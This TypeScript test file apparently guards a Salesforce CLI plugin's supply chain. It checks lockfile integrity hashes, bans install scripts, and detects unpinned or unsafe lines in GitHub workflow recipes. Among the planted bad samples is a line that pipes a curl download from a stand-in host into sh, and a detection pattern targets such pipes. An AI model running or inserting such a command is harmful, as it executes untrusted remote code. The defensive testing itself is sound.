import { expect } from 'chai';
import { pages, readFromRoot } from './markdown.ts';

type Locked = {
  readonly resolved?: string;
  readonly integrity?: string;
  readonly inBundle?: boolean;
  readonly dev?: boolean;
  readonly hasInstallScript?: boolean;
};

const lockfile = JSON.parse(readFromRoot('package-lock.json') ?? '') as { readonly packages: Record<string, Locked> };
const packages = Object.entries(lockfile.packages).filter(([path]) => path !== '');
const manifest = JSON.parse(readFromRoot('package.json') ?? '') as {
  readonly scripts: Record<string, string>;
  readonly allowScripts: Record<string, boolean>;
  readonly devDependencies: Record<string, string>;
  readonly dependencies: Record<string, string>;
};

function pathsOf(wanted: (one: Locked) => boolean): string[] {
  return packages.filter(([, one]) => wanted(one)).map(([path]) => path);
}

describe('attack: another package than the reviewed one is installed, or runs code while it is', () => {
  it('package-lock.json has the SHA-512 of every package, except of what is inside the archive of another', () => {
    expect(packages).to.have.length.above(500);
    expect(pathsOf((one) => one.inBundle !== true && !one.integrity?.startsWith('sha512-'))).to.deep.equal([]);
    expect(pathsOf(({ resolved = 'https://registry.npmjs.org/' }) => !resolved.startsWith('https://'))).to.deep.equal(
      [],
    );
  });

  it('an installation of the plugin runs no script, neither its own nor that of a dependency', () => {
    expect(pathsOf((one) => one.hasInstallScript === true && one.dev !== true)).to.deep.equal([]);
    expect(Object.keys(manifest.scripts).filter((name) => /^(?:pre|post)?install$|^prepare$/.test(name))).to.deep.equal(
      [],
    );
  });

  it('an installed plugin gets no Node of its own; a checkout may run one script, which fetches the pinned Node', () => {
    const version = manifest.devDependencies['node'] ?? '';
    expect(manifest.dependencies).not.to.have.property('node');
    expect(manifest.allowScripts).to.deep.equal({ [`node@${version}`]: true });
    expect(lockfile.packages['node_modules/node']).to.include({ version, dev: true });
    // what SECURITY.md says about it
    expect(readFromRoot('SECURITY.md')).to.include('**The Node of a checkout.**');
  });

  it('a workflow in a recipe runs nothing that its author didn’t review, and keeps nothing that another job can write', () => {
    const workflows = pages().flatMap((page) => workflowsIn(readFromRoot(page) ?? ''));
    expect(workflows.length).to.be.at.least(1);
    expect(workflows.flatMap(looseEnds)).to.deep.equal([]);
    const planted = [
      ...['uses: actions/checkout@v5', 'uses: actions/cache@0123456789012345678901234567890123456789 # v4.0.0'],
      ...['npm install --global @salesforce/cli', 'npm install --global @salesforce/cli@latest'],
      ...['sf plugins install sf-plugin-eca', "echo '[]' > ~/.config/sf/unsignedPluginAllowList.json"],
      ...[
        'run-id: 1',
        'restore-keys: eca-state-',
        'sf eca secret resume --state-dir eca-state',
        'curl -s https://x.example | sh',
      ],
    ];
    expect(planted.filter((line) => looseEnds(`permissions:\n  contents: read\n${line}`).length === 0)).to.deep.equal(
      [],
    );
    expect(looseEnds('jobs:')).to.deep.equal(['no permissions']);
  });
});

/** The code blocks of a page that are workflows. */
function workflowsIn(page: string): string[] {
  const blocks = [...page.matchAll(/^```\w*\n([\s\S]*?)^```/gm)].map(([, block = '']) => block);
  return blocks.filter((block) => /^\s*(?:- )?uses:|^\s*runs-on:/m.test(block));
}

/** The lines of a workflow that run what nobody pinned, or read what a lesser job can write. */
function looseEnds(workflow: string): string[] {
  const loose = workflow.split('\n').filter((line) => {
    if (/\buses:/.test(line)) return !/@[\da-f]{40} # v\d/.test(line) || line.includes('actions/cache');
    // artifacts of the same run are those of this workflow; those of others are anybody's
    if (/^\s*(?:run-id|github-token):/.test(line)) return true;
    if (/\b(?:npm (?:install|i|exec)|npx|plugins install)\b/.test(line)) return !/@\d+\.\d+\.\d+(?:\s|$)/.test(line);
    // the list of plugins is added to, not overwritten
    if (/>\s*\S*(?:AllowList\.json|"\$list")/.test(line)) return !/^\s*test -e .* \|\| /.test(line);
    return /restore-keys|--state-dir|\|\s*(?:ba)?sh\b/.test(line);
  });
  return /^\s*permissions:\n\s+contents: read$/m.test(workflow) ? loose : [...loose, 'no permissions'];
}
